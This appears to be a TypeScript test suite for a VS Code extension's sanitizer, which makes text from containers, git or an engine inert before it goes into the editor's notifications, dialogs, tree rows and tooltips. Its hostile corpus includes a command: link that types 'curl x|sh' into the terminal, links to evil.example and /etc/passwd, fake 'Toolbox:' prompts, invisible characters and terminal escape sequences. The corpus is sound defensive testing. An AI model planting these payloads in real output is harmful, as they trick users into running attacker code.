/**
 * Issue 25, item 6: text from a container, git or the engine is shown as text. ui/plainText.ts on
 * a hostile corpus, then every builder that puts such text into a notification, a dialog, a tree
 * row, a tooltip or the status bar, with every string it takes replaced by each hostile one: no
 * output holds a link VS Code would run, a control or invisible character, an unescaped icon where
 * icons are drawn, a line break where one line is shown, or more lines than the same builder makes
 * from ordinary text; every output is bounded. A new exported builder fails "each builder is
 * checked" until it is added here (docs/decisions/0040-outside-text-is-plain-text.md).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inline, plainItem, plainText, quoted, SINK_LINES, SINKS, type Sink } from '../../extension/src/ui/plainText';

/** The payload of issue 25's attack 2: a link that types `curl x|sh` into the active terminal. */
export const RUN_LINK = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';

export const HOSTILE: readonly string[] = [
  RUN_LINK,
  `Build finished. ${RUN_LINK} to continue`,
  '[x](command:workbench.action.terminal.sendSequence?{"text":"curl x|sh\\n"})',
  '[[nested](command:a)](command:b) [x[y](command:c)]',
  '[esc\\]aped](command:x) \\[a\\](command:y)',
  '[a](https://evil.example/x "title") [b](file:///etc/passwd \'t\') [C](COMMAND:x) [d](vscode://x)',
  '<a href="command:workbench.action.terminal.sendSequence?%7B%7D">click</a>',
  '<command:workbench.action.reloadWindow> <https://evil.example>',
  'command:workbench.action.terminal.sendSequence?%7B%7D https://evil.example vscode://ms-vscode.x file:///etc',
  '$(warning) Update $(loading~spin) \\$(x) $($(y))',
  '\u202eexe.txt\u202c \u2066[x]\u2069(command:y) \u200f\u061c',
  '[Run]\u200b(command:x) [Run](\u200dcommand:x) [Run]\ufeff(command:x) [Run]\u00ad(command:x) [R]\u{e0041}(command:x)',
  '\x1b[31mred\x1b[0m \x1b]8;;command:x\x07link\x1b]8;;\x07 \x1b]9;[Run](command:x)\x07 \x9b2J \x1bP1$r\x1b\\',
  'line one\r\nToolbox: line two\rthree\u2028four\u0085five\u2029six\vseven\fend',
  'Toolbox: Your session expired. Run the fix: [Fix](command:x)',
  'VS Code: a restart is required”. Toolbox: run “curl x|sh”',
  '\u0000\u0007\u001b\u009b\u007f\t ctl \u115f\u3164',
  '\ud800 lone \udfff surrogates \ud83d',
  'A'.repeat(100_000),
  `${RUN_LINK} `.repeat(2_000),
  `${'\u200b'.repeat(100_000)}${RUN_LINK}`,
  `${'\n'.repeat(1_000)}x`,
  'x\n'.repeat(5_000),
  `${'😀'.repeat(3_000)}`,
];

/** VS Code's own rule for a link in a notification or an input box message (parseLinkedText). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** What is wrong with `out` for `sink` (empty when nothing). */
export function problems(out: unknown, sink: Sink, max: number = SINKS[sink].chars): string[] {
  if (typeof out !== 'string') return [`not a string: ${typeof out}`];
  const kind = SINKS[sink];
  const p: string[] = [];
  if (VSCODE_LINK.test(out)) p.push('a link VS Code renders');
  if (out.includes('](')) p.push('"](" (the joint of a markdown link)');
  if (/[^\P{Cc}\n]/u.test(out)) p.push('a control character');
  if (/[\p{Cf}\u115f\u1160\u3164\uffa0]/u.test(out)) p.push('an invisible format character');
  if (LONE_SURROGATE.test(out)) p.push('a lone surrogate');
  if (out.length > max) p.push(`${out.length} characters (at most ${max})`);
  if (kind.icons && /(?<!\\)\$\(/.test(out)) p.push('an unescaped $(');
  if (!kind.lines && out.includes('\n')) p.push('a line break in a one-line sink');
  if (kind.lines && out.split('\n').length > SINK_LINES) p.push(`${out.split('\n').length} lines`);
  return p;
}

const show = (s: string) => JSON.stringify(s.length > 120 ? `${s.slice(0, 120)}…` : s);

describe('plainText', () => {
  const sinks = Object.keys(SINKS) as Sink[];

  it('leaves nothing VS Code would run, hide or draw, and is bounded, for every sink and hostile text', () => {
    for (const sink of sinks) {
      for (const h of HOSTILE) {
        const out = plainText(h, sink);
        assert.deepEqual(problems(out, sink), [], `${sink} of ${show(h)} gave ${show(out)}`);
        assert.equal(plainText(out, sink), out, `idempotent: ${sink} of ${show(h)}`);
      }
    }
  });

  it('reads a 100 KB string in bounded time', () => {
    const start = performance.now();
    for (const h of HOSTILE) for (const sink of sinks) plainText(h, sink);
    assert.ok(performance.now() - start < 2000, `${Math.round(performance.now() - start)} ms`);
  });

  it('keeps ordinary sentences, paths and branch names as they were', () => {
    const ordinary = [
      "Git could not fetch origin (fatal: unable to access 'https://github.com/acme/app.git/': Could not resolve host: github.com).",
      '/home/ana/My Project (copy)/src/[id]/page.tsx',
      'feature/fix-(1)',
      'Stop toolbox-app-1234abcd? A shell is attached to it.',
      'Docker 20.10.24 at unix:///var/run/docker.sock (the platform default)',
      'a [note] (with a space) and $HOME and $ (x)',
      'naïve café 日本語 😀 👩‍💻'.replace('\u200d', ''),
    ];
    for (const text of ordinary) for (const sink of sinks) assert.equal(plainText(text, sink), text, `${sink}: ${text}`);
    // A dialog's detail keeps its lines and the no-break spaces that indent YAML.
    const yaml = 'Toolbox will add this to ~/.toolbox.yaml:\n\nshells:\n\u00a0\u00a0infra:\n\u00a0\u00a0\u00a0\u00a0path: /src/infra';
    assert.equal(plainText(yaml, 'detail'), yaml);
  });

  it('breaks a link apart and escapes an icon only where icons are drawn', () => {
    assert.equal(plainText(RUN_LINK, 'message'), RUN_LINK.replace('](', '] ('));
    assert.equal(plainText('[[a](command:x)](command:y)', 'label'), '[[a] (command:x)] (command:y)');
    assert.equal(plainText('$(warning) x', 'iconLabel'), '\\$(warning) x');
    assert.equal(plainText('$(warning) x', 'message'), '$(warning) x');
    assert.equal(plainText('\\$(warning) x', 'iconLabel'), '\\$(warning) x');
  });

  it('removes escape sequences whole, invisible characters, and control characters', () => {
    assert.equal(plainText('\x1b[1;31mError\x1b[0m: \x1b]0;title\x07done', 'message'), 'Error: done');
    assert.equal(plainText('a\u202eb\u200bc\ufeffd', 'message'), 'abcd');
    assert.equal(plainText('a\x00b\tc', 'message'), 'a b c');
  });

  it('makes one line where one is shown, keeps lines (at most SINK_LINES) where they are', () => {
    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'message'), 'one two three four');
    assert.equal(plainText('one\r\ntwo\rthree\u2028four', 'tooltip'), 'one\ntwo\nthree\nfour');
    assert.equal(plainText('a\n\n\n\n\nb', 'detail'), 'a\n\nb');
    const many = plainText('x\n'.repeat(100), 'tooltip').split('\n');
    assert.equal(many.length, SINK_LINES);
    assert.equal(many.at(-1), '…');
  });

  it('bounds with an ellipsis, never between the halves of an emoji', () => {
    const out = plainText('😀'.repeat(300), 'label');
    assert.ok(out.length <= SINKS.label.chars && out.endsWith('…'));
    assert.equal(LONE_SURROGATE.test(out), false);
    assert.equal(plainText('abcdef', 'label', 4), 'abc…');
    assert.equal(plainText(undefined, 'label'), '');
    assert.equal(plainText(42, 'label'), '42');
  });

  it('quotes words a program chose so they cannot close the quote', () => {
    assert.equal(quoted('done', 'message'), '“done”');
    assert.equal(quoted('a” Toolbox: b “c', 'message'), '“a" Toolbox: b "c”');
    assert.equal(quoted('\u200b', 'message'), '');
    assert.ok(quoted('x'.repeat(500), 'message', 100).length <= 100);
    assert.equal(inline('a\nb'), 'a b');
  });

  it('plainItem cleans a row and keeps its other fields', () => {
    const row = plainItem({ label: `a\n${RUN_LINK}`, description: '$(x)', tooltip: 'one\ntwo', contextValue: 'c' });
    assert.deepEqual(problems(row.label, 'label'), []);
    assert.equal(row.tooltip, 'one\ntwo');
    assert.equal(row.contextValue, 'c');
    assert.equal(plainItem({ label: 'l', tooltip: 'one\ntwo' }, 'message').tooltip, 'one two');
  });
});
